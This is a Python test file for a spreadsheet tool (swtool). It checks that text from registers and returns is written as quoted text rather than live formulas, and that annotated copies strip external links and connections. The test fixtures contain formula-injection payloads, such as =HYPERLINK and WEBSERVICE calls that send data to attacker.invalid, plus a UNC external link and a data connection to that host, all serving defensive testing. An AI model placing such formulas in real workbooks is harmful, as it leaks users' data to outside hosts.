"""No formula from any input: every workbook swtool writes holds text from a register, a return or a
decision as text, never as a formula, and the annotated copy carries none of the provider's formulas
or links.

Each workbook is read back twice: as XML (no ``<f>`` element in any sheet; the cells that hold
formula-like text are string cells whose style has ``quotePrefix="1"``) and with openpyxl
(``data_type == "s"``, the exact text, ``quotePrefix``).
"""

from __future__ import annotations

import json
import re
import xml.etree.ElementTree as ET
import zipfile
from datetime import date
from decimal import Decimal
from pathlib import Path

import openpyxl
import pytest
from click.testing import CliRunner
from openpyxl.utils import get_column_letter

from builders import claim, write_return
from swtool.cli import cli
from swtool.model import standard as std
from swtool.model.quarter import Quarter
from swtool.model.refdata import RefData
from swtool.model.settings import Settings

HYPERLINK = '=HYPERLINK("http://attacker.invalid/?d=1","Open")'
EVIL = [HYPERLINK, "+1+1", "@SUM(A1)", "-2+3"]
MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
F_RE = re.compile(r"<(\w+:)?f[\s/>]")
TODAY = "2026-10-01"


def run(*args, code=0):
    res = CliRunner().invoke(cli, [str(a) for a in args], catch_exceptions=False)
    assert res.exit_code == code, res.output
    return res


# --- reading a written workbook back as XML ---------------------------------------------------------


def sheet_parts(z: zipfile.ZipFile) -> dict[str, str]:
    """{sheet name: part name}, from the workbook and its relationships."""
    book = ET.fromstring(z.read("xl/workbook.xml"))
    rels = ET.fromstring(z.read("xl/_rels/workbook.xml.rels"))
    target = {r.get("Id"): r.get("Target") for r in rels}
    out = {}
    for s in book.iter(f"{{{MAIN}}}sheet"):
        t = target[s.get(f"{{{REL}}}id")]
        out[s.get("name")] = t.lstrip("/") if t.startswith("/") else f"xl/{t}"
    return out


def xml_cells(path: Path) -> dict[tuple[str, str], tuple]:
    """{(sheet, cell): (t, has <f>, text or value, quotePrefix of its style)} for every cell in the XML."""
    with zipfile.ZipFile(path) as z:
        styles = ET.fromstring(z.read("xl/styles.xml"))
        xfs = [xf.get("quotePrefix") in ("1", "true") for xf in styles.find(f"{{{MAIN}}}cellXfs")]
        shared = []
        if "xl/sharedStrings.xml" in z.namelist():
            sst = ET.fromstring(z.read("xl/sharedStrings.xml"))
            shared = ["".join(t.text or "" for t in si.iter(f"{{{MAIN}}}t")) for si in sst]
        out = {}
        for sheet, part in sheet_parts(z).items():
            for c in ET.fromstring(z.read(part)).iter(f"{{{MAIN}}}c"):
                t = c.get("t", "n")
                v = c.find(f"{{{MAIN}}}v")
                if t == "s":
                    value = shared[int(v.text)]
                elif t == "inlineStr":
                    value = "".join(x.text or "" for x in c.iter(f"{{{MAIN}}}t"))
                else:
                    value = v.text if v is not None else None
                out[(sheet, c.get("r"))] = (t, c.find(f"{{{MAIN}}}f") is not None, value, xfs[int(c.get("s", 0))])
        return out


def assert_no_formula_and_quoted(path: Path, texts=EVIL) -> dict[str, list]:
    """No <f> in any sheet; every cell whose text starts like a formula is a quote-prefixed string cell,
    in the XML and in openpyxl. Returns {text: [sheet!cell, ...]} for the ``texts`` found whole."""
    with zipfile.ZipFile(path) as z:
        for part in z.namelist():
            if part.startswith("xl/worksheets/") and part.endswith(".xml"):
                assert not F_RE.search(z.read(part).decode()), part
    cells = xml_cells(path)
    wb = openpyxl.load_workbook(path)
    found: dict[str, list] = {t: [] for t in texts}
    for (sheet, ref), (t, has_f, value, quoted) in cells.items():
        assert not has_f, (sheet, ref)
        assert t not in ("str", "e"), (sheet, ref, t, value)
        if isinstance(value, str) and t in ("s", "inlineStr") and value.lstrip()[:1] in ("=", "+", "-", "@"):
            assert quoted, (sheet, ref, value)
            cell = wb[sheet][ref]
            assert cell.data_type == "s" and cell.quotePrefix and cell.value == value, (sheet, ref)
        if value in found and t in ("s", "inlineStr"):
            found[value].append(f"{sheet}!{ref}")
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                assert c.data_type != "f", (ws.title, c.coordinate, c.value)
    return found


# --- the prefilled return template -----------------------------------------------------------------


def _row(ws, values):
    r = ws.max_row + 1
    for j, v in enumerate(values, 1):
        ws.cell(r, j).value = v
        if isinstance(v, str):
            ws.cell(r, j).data_type = "s"  # typed as text in the register, as Excel keeps it


@pytest.fixture(scope="module")
def register(tmp_path_factory) -> Path:
    """A register whose provider name, budget categories' items, milestones and a funding note hold
    formula-like text (each a string cell, as typed in Excel)."""
    with pytest.MonkeyPatch.context() as mp:
        mp.setenv("SWTOOL_DATA_DIR", str(tmp_path_factory.mktemp("userdata")))
        folder = tmp_path_factory.mktemp("register")
        path = folder / "register.xlsx"
        run("template", "register", "-o", path)
    wb = openpyxl.load_workbook(path)
    _row(wb["Contracts"], ["SW-L2-04", HYPERLINK, "2", date(2025, 4, 1), date(2027, 3, 31), 165000])
    for output, annual in (("2a", 36), ("2b", 4), ("4", 22)):
        _row(wb["Targets"], ["SW-L2-04", output, annual])
    for i, text in enumerate(EVIL):
        _row(wb["Budget"], ["SW-L2-04", "2026/27", "Q2", "Delivery", text, 1000 + i])
        _row(wb["Milestones"], ["SW-L2-04", text, date(2026, 9, 1 + i)])
    wb.save(path)
    return path


@pytest.fixture(scope="module")
def template(register, tmp_path_factory) -> Path:
    out = tmp_path_factory.mktemp("template") / "SW-L2-04.xlsx"
    run("template", "return", "--register", register, "--contract", "SW-L2-04", "--quarter", "2026/27-Q2", "-o", out)
    return out


def test_the_prefilled_template_has_no_formula_and_quotes_the_registers_text(template):
    found = assert_no_formula_and_quoted(template)
    # the provider name on the cover and in the hidden Contract sheet
    assert {"Return!B1", "Contract!B2"} <= set(found[HYPERLINK])
    for text in EVIL:  # each budget item and milestone: Expenditure, Milestones, the Lists and Contract sheets
        sheets = {ref.split("!")[0] for ref in found[text]}
        assert {"Expenditure", "Milestones", "Lists", "Contract"} <= sheets, (text, found[text])
    assert sum(len(v) for v in found.values()) >= 1 + 4 * 4


def test_numbers_and_dates_stay_numbers_and_dates(template):
    wb = openpyxl.load_workbook(template)
    exp = wb["Expenditure"]
    assert [exp.cell(r, 3).value for r in range(2, 6)] == [1000, 1001, 1002, 1003]
    assert all(exp.cell(r, 3).data_type == "n" and not exp.cell(r, 3).quotePrefix for r in range(2, 6))
    ms = wb["Milestones"]
    assert [ms.cell(r, 1).value for r in range(2, 6)] == EVIL
    assert [ms.cell(r, 2).value.date() for r in range(2, 6)] == [date(2026, 9, d) for d in (1, 2, 3, 4)]
    assert all(ms.cell(r, 2).is_date for r in range(2, 6))


def test_the_template_carries_the_registers_text_exactly(template, register):
    """The quote prefix is a style, not a character: the return reads back with the register's text, so
    the provider name agrees with the register (no D604) and the Contract sheet holds the same facts."""
    from builders import check
    from swtool.read.register import read_register

    facts = read_register(register, RefData()).contracts["SW-L2-04"]
    report = check(template, contract=facts)
    assert "D604" not in {f.code for f in report.findings}
    from swtool.read.submission import load_submission

    sub = load_submission(template, RefData())
    assert sub.contract_sheet.provider == sub.cover.get("Provider") == HYPERLINK
    assert [b.item for b in sub.contract_sheet.budget] == EVIL
    assert [m for m, _ in sub.contract_sheet.milestones] == EVIL


# --- the remedial action plan, opened with a PMO's reason ------------------------------------------


def test_the_rap_from_the_ledger_has_no_formula(register, tmp_path):
    """A plan opened with a PMO's reason that starts with "=" for a provider whose name does: the reason
    is kept in the ledger as typed (the plan does not print it); the plan holds the name as quoted text."""
    from swtool.ledger import open_ledger, rapplan, store

    out = tmp_path / "rap.xlsx"
    reason = '=HYPERLINK("http://attacker.invalid/","reason")'
    with open_ledger(tmp_path / "ledger.sqlite3") as ledger:
        store.import_register(ledger, register, RefData(), Settings.defaults())
        _rap_id, written, _ = rapplan.create(
            ledger,
            "SW-L2-04",
            Quarter.parse("2026/27-Q2"),
            out,
            RefData(),
            Settings.defaults(),
            date(2026, 11, 23),
            reason=reason,
        )
        [row] = store.raps(ledger, date(2026, 11, 23))
        assert row["last_reason"] == reason  # the decision keeps the PMO's words as typed
    found = assert_no_formula_and_quoted(written, [HYPERLINK, reason])
    assert len(found[HYPERLINK]) == 1 and not found[reason]
    ws = openpyxl.load_workbook(written).active
    provider = next(c for row in ws.iter_rows() for c in row if c.value == HYPERLINK)
    assert ws.cell(provider.row, provider.column - 1).value == "Provider name"


def test_the_rap_quotes_budget_items_and_provider_text(tmp_path):
    from swtool.calc.credits import assess
    from swtool.calc.variances import SpendLine, expenditure_variance
    from swtool.read.register import ContractFacts, Target
    from swtool.write.rap_form import rap_plan, write_rap

    q = Quarter(2026, 2)
    c = ContractFacts(
        "SW-L7-01",
        "-2+3",
        "7",
        date(2025, 4, 1),
        date(2027, 3, 31),
        Decimal("77000.00"),
        targets={"2a": Target("2a", 32)},
    )
    lines = assess(c, q, {q: {"2a": 1}}, Settings.defaults())
    spend = expenditure_variance([SpendLine(t, Decimal("100"), Decimal("300")) for t in EVIL])
    path = write_rap(tmp_path / "rap.xlsx", rap_plan(c, q, lines, spend, RefData(), issued=date(2026, 10, 20)))
    found = assert_no_formula_and_quoted(path)
    assert found["-2+3"]  # the provider name, quote-prefixed


# --- the network report ------------------------------------------------------------------------------


def test_the_network_report_has_no_formula(tmp_path):
    from swtool.write.network_report import NetworkData, OutputRow, SharedRow, write_network_report

    q = Quarter(2026, 2)
    data = NetworkData(
        outputs=[OutputRow("@SUM(A1)", "2", q, 3, 10), OutputRow("3", "2", q, 4, 5)],
        shared=[SharedRow(q, HYPERLINK, "3", "+1+1", "2a", 2), SharedRow(q, "+1+1", "3", HYPERLINK, "2a", 1)],
        providers=[HYPERLINK, "+1+1"],
        settings={"-2+3": "=1+1"},
        generated=date(2026, 11, 23),
    )
    path = write_network_report(tmp_path / "network.xlsx", data)
    found = assert_no_formula_and_quoted(path)
    assert len(found[HYPERLINK]) == 2 and len(found["+1+1"]) == 2 and found["@SUM(A1)"]
    ws = openpyxl.load_workbook(path)["Outputs"]
    pct = [c for row in ws.iter_rows() for c in row if c.number_format == "0.0%" and c.value is not None]
    assert pct and all(c.data_type == "n" for c in pct)  # percentages are numbers, computed by swtool


# --- the one writer ----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "text", EVIL + ["\t=1+1", "\r=1+1", "\n=1+1", "  =1+1", "＝1+1", "＋1", "－1", "＠SUM(A1)", "#N/A", "=", "-"]
)
def test_put_stores_formula_like_text_as_quoted_text(text):
    from swtool.write.xlsx import put

    ws = openpyxl.Workbook().active
    put(ws["A1"], text, exact=True)
    assert ws["A1"].data_type == "s" and ws["A1"].value == text
    if text != "#N/A":
        assert ws["A1"].quotePrefix
    put(ws["A2"], text)  # escaped for a report: still text, still quoted when it starts like a formula
    assert ws["A2"].data_type == "s"
    assert ws["A2"].quotePrefix or text == "#N/A"


def test_put_leaves_numbers_dates_and_plain_text_alone():
    from swtool.write.xlsx import looks_like_formula, put

    ws = openpyxl.Workbook().active
    put(ws["A1"], -5)
    put(ws["A2"], Decimal("12.50"))
    put(ws["A3"], date(2026, 9, 30), number_format="DD/MM/YYYY")
    put(ws["A4"], "Peckham Progress Trust")
    put(ws["A5"], None)
    assert (ws["A1"].value, ws["A1"].data_type, ws["A1"].quotePrefix) == (-5, "n", False)
    assert ws["A2"].value == 12.5 and ws["A3"].number_format == "DD/MM/YYYY" and ws["A3"].is_date
    assert ws["A4"].data_type == "s" and not ws["A4"].quotePrefix
    assert ws["A5"].value is None
    assert not looks_like_formula("Re: =1") and not looks_like_formula("") and looks_like_formula("\u00a0@x")


# --- the annotated copy --------------------------------------------------------------------------------

NOTES, HOURS, PAY, EVIDENCE = (
    get_column_letter(std.CLAIMS.headers.index(h) + 1)
    for h in ("Notes", "Weekly hours", "Gross hourly pay", "Evidence reference")
)


def _set_cell(xml: str, ref: str, new: str) -> str:
    m = re.search(rf'<c r="{ref}"(?:[^>]*?/>|[^>]*>.*?</c>)', xml, re.DOTALL)
    if m:
        return xml[: m.start()] + new + xml[m.end() :]
    return xml.replace("</row>", new + "</row>", 1)  # row 2 is the only data row


def _before(xml: str, tags: tuple[str, ...], new: str) -> str:
    for tag in tags:
        if f"<{tag}" in xml:
            return xml.replace(f"<{tag}", new + f"<{tag}", 1)
    return xml.replace("</worksheet>", new + "</worksheet>")


@pytest.fixture
def linked(tmp_path) -> Path:
    """A return (Claims on sheet3) with a live =HYPERLINK formula (saved value "Open"), a cross-sheet
    formula with a saved value, a formula saved without one, a hyperlink to a web address and one to a
    cell (A3), a merged range, a link to
    another workbook (an external-link part), defined names (one to that workbook, one that calls
    WEBSERVICE, one plain), a data connection, a dropdown rule and a conditional format that call a
    function; the Notes of row 3 is the text "=1+1"."""
    base = write_return(tmp_path, "base.xlsx", claims=[claim(), claim(**{"Claim ref": "CL-0002", "Notes": "=1+1"})])
    with zipfile.ZipFile(base) as z:
        p = {n: z.read(n) for n in z.namelist()}
    sheet = p["xl/worksheets/sheet3.xml"].decode()
    sheet = _set_cell(
        sheet,
        f"{NOTES}2",
        f'<c r="{NOTES}2" t="str"><f>HYPERLINK("http://attacker.invalid/?"&amp;A2,"Open")</f><v>Open</v></c>',
    )
    sheet = _set_cell(sheet, f"{HOURS}2", f'<c r="{HOURS}2"><f>Registrations!E2+3.5</f><v>37.5</v></c>')
    sheet = _set_cell(sheet, f"{PAY}2", f'<c r="{PAY}2"><f>15.5*1</f></c>')
    sheet = _before(
        sheet,
        ("pageMargins",),
        '<mergeCells count="1"><mergeCell ref="N2:O2"/></mergeCells>'
        '<conditionalFormatting sqref="A2:A9"><cfRule type="expression" '
        'priority="1"><formula>ISBLANK(WEBSERVICE("http://attacker.invalid/cf"))</formula></cfRule>'
        '</conditionalFormatting><dataValidations count="1"><dataValidation type="custom" '
        'allowBlank="1" sqref="B2:B9"><formula1>ISNUMBER(WEBSERVICE("http://attacker.invalid/dv"))'
        "</formula1></dataValidation></dataValidations><hyperlinks><hyperlink "
        f'ref="{EVIDENCE}2" r:id="rIdH1"/><hyperlink ref="A3" location="\'Return\'!A1"/></hyperlinks>',
    )
    if 'xmlns:r="' not in sheet.split(">", 2)[1] + sheet.split(">", 2)[0]:
        sheet = sheet.replace("<worksheet ", f'<worksheet xmlns:r="{REL}" ', 1)
    p["xl/worksheets/sheet3.xml"] = sheet.encode()
    p["xl/worksheets/_rels/sheet3.xml.rels"] = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="rIdH1" Type="{REL}/hyperlink" Target="http://attacker.invalid/evidence.pdf" '
        'TargetMode="External"/></Relationships>'
    ).encode()
    book = p["xl/workbook.xml"].decode()
    names = (
        '<definedNames><definedName name="Pay">[1]Pay!$A$1</definedName><definedName name="Leak">'
        'WEBSERVICE("http://attacker.invalid/name")</definedName><definedName name="ClaimRefs">'
        "Claims!$A$2:$A$3</definedName></definedNames>"
    )
    book = re.sub(r"<definedNames\s*/>|<definedNames>.*?</definedNames>", "", book)
    book = book.replace(
        "</sheets>", '</sheets><externalReferences><externalReference r:id="rIdX1"/></externalReferences>' + names, 1
    )
    p["xl/workbook.xml"] = book.encode()
    p["xl/_rels/workbook.xml.rels"] = (
        p["xl/_rels/workbook.xml.rels"]
        .decode()
        .replace(
            "</Relationships>",
            f'<Relationship Id="rIdX1" Type="{REL}/externalLink" Target="externalLinks/'
            f'externalLink1.xml"/><Relationship Id="rIdC1" Type="{REL}/connections" Target="connections.xml"/>'
            "</Relationships>",
        )
        .encode()
    )
    p["[Content_Types].xml"] = (
        p["[Content_Types].xml"]
        .decode()
        .replace(
            "</Types>",
            '<Override PartName="/xl/externalLinks/externalLink1.xml" ContentType="application/'
            'vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml"/><Override PartName="/xl/connections.xml" '
            'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.connections+xml"/></Types>',
        )
        .encode()
    )
    p["xl/externalLinks/externalLink1.xml"] = (
        f'<externalLink xmlns="{MAIN}" xmlns:r="{REL}"><externalBook r:id="rId1"><sheetNames><sheetName val="Pay"/>'
        "</sheetNames></externalBook></externalLink>"
    ).encode()
    p["xl/externalLinks/_rels/externalLink1.xml.rels"] = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" '
        f'Type="{REL}/externalLinkPath" Target="file:///\\\\attacker.invalid\\share\\pay.xlsx" '
        'TargetMode="External"/></Relationships>'
    ).encode()
    p["xl/connections.xml"] = (
        f'<connections xmlns="{MAIN}"><connection id="1" name="Pay" type="1" refreshedVersion="6">'
        '<dbPr connection="DSN=pay;SERVER=attacker.invalid" command="SELECT 1"/></connection></connections>'
    ).encode()
    path = tmp_path / "linked.xlsx"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
        for n, b in p.items():
            z.writestr(n, b)
    return path


def _annotate(path: Path) -> tuple[Path, list[dict]]:
    out = path.with_name("copy.annotated.xlsx")
    res = run("check", path, "--format", "json", "--today", TODAY, "--annotate", out, code=1)
    return out, json.loads(res.stdout)["files"][0]["findings"]


def test_the_annotated_copy_has_no_formula_and_keeps_saved_values(linked):
    src = openpyxl.load_workbook(linked)["Claims"]
    assert src[f"{NOTES}2"].data_type == "f" and src[f"{HOURS}2"].data_type == "f"  # live in the return
    out, findings = _annotate(linked)
    assert any(f["code"] == "S009" and f["cell"] == f"Claims!{PAY}2" for f in findings)
    assert_no_formula_and_quoted(out, [])
    ws = openpyxl.load_workbook(out)["Claims"]
    assert (ws[f"{NOTES}2"].value, ws[f"{NOTES}2"].data_type) == ("Open", "s")  # the saved value of HYPERLINK
    assert (ws[f"{HOURS}2"].value, ws[f"{HOURS}2"].data_type) == (37.5, "n")  # of the cross-sheet formula
    assert ws[f"{PAY}2"].value is None and "S009" in ws[f"{PAY}2"].comment.text  # none saved: empty, marked
    assert (ws[f"{NOTES}3"].value, ws[f"{NOTES}3"].data_type, ws[f"{NOTES}3"].quotePrefix) == ("=1+1", "s", True)
    assert ws[f"{EVIDENCE}2"].value == "CL-0001-contract.pdf" and ws[f"{EVIDENCE}2"].hyperlink is None


def test_the_annotated_copy_links_to_nothing_and_says_what_was_removed(linked):
    out, _ = _annotate(linked)
    with zipfile.ZipFile(out) as z:
        names = z.namelist()
        assert not [n for n in names if n.lower().startswith("xl/externallinks/") or "connections" in n.lower()]
        for n in names:
            if n.endswith(".rels"):
                assert b'TargetMode="External"' not in z.read(n), n
        book = z.read("xl/workbook.xml").decode()
    assert "externalReference" not in book and "WEBSERVICE" not in book and "[1]" not in book
    wb = openpyxl.load_workbook(out)
    assert list(wb.defined_names) == ["ClaimRefs"]  # a plain reference inside the workbook stays
    claims = wb["Claims"]
    assert not claims.data_validations.dataValidation and not list(claims.conditional_formatting)
    note = wb["Findings"]["A4"].value
    assert note.startswith(
        "swtool removed 3 formulas (their saved values kept), 3 other formulas (in defined "
        "names, dropdown rules, conditional formats or tables) and 5 links from this copy."
    )
    # 5 links: the two hyperlinks, the external-link part, the name pointing to it, the data connection
    assert claims["A3"].value == "CL-0002" and claims["A3"].hyperlink is None
    assert [str(r) for r in claims.merged_cells.ranges] == ["N2:O2"]
    assert wb["Findings"]["A4"].data_type == "s"


def test_the_note_reads_as_the_issue_asks():
    from swtool.write.annotate import removed_note

    assert removed_note({"formulas": 3, "rules": 0, "links": 2}) == (
        "swtool removed 3 formulas (their saved values kept) and 2 links from this copy."
    )
    assert removed_note({"formulas": 1, "rules": 1, "links": 1}) == (
        "swtool removed 1 formula (its saved value kept), 1 other formula (in defined names, dropdown rules, "
        "conditional formats or tables) and 1 link from this copy."
    )
    assert removed_note({"formulas": 0, "rules": 0, "links": 0}) == ""


def test_a_return_without_formulas_or_links_gets_no_note(tmp_path):
    path = write_return(tmp_path, claims=[claim(Output="zz")])
    out, _ = _annotate(path)
    ws = openpyxl.load_workbook(out)["Findings"]
    assert ws["A4"].value is None


def test_formula_cells_are_counted_inside_sheet_data_only_across_chunks():
    import io

    from swtool.write.annotate import _formula_cells

    cell = '<c r="A{0}"><f>B{0}*2</f><v>2</v></c>'
    shared = '<c r="C{0}"><x:f t="shared" si="0"/><v>1</v></c>'
    rows = "".join(
        f'<row r="{i}">{cell.format(i)}{shared.format(i)}<c r="D{i}" t="s"><v>0</v></c></row>' for i in range(1, 40_001)
    )  # about 3 MB: the tags fall across the 1 MB chunks
    xml = (
        f'<worksheet xmlns="{MAIN}" xmlns:x="{MAIN}"><sheetData>{rows}</sheetData><extLst><ext><x14:dataValidations>'
        "<x14:dataValidation><x14:formula1><xm:f>Lists!$A$1:$A$9</xm:f></x14:formula1></x14:dataValidation>"
        "</x14:dataValidations></ext></extLst></worksheet>"
    ).encode()
    assert len(xml) > 3 << 20
    assert _formula_cells(io.BytesIO(xml)) == 80_000


def test_a_copy_that_still_links_outside_is_not_written(tmp_path):
    from swtool.write.annotate import NotAnnotated, _verify

    path = write_return(tmp_path)
    with zipfile.ZipFile(path) as z:
        p = {n: z.read(n) for n in z.namelist()}
    p["xl/worksheets/_rels/sheet1.xml.rels"] = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="rId9" Type="{REL}/hyperlink" Target="http://attacker.invalid/" TargetMode="External"/>'
        "</Relationships>"
    ).encode()
    bad = tmp_path / "bad.xlsx"
    with zipfile.ZipFile(bad, "w") as z:
        for n, b in p.items():
            z.writestr(n, b)
    with pytest.raises(NotAnnotated, match="without the workbook's formulas and links"):
        _verify(bad)
    _verify(path)  # a plain workbook passes
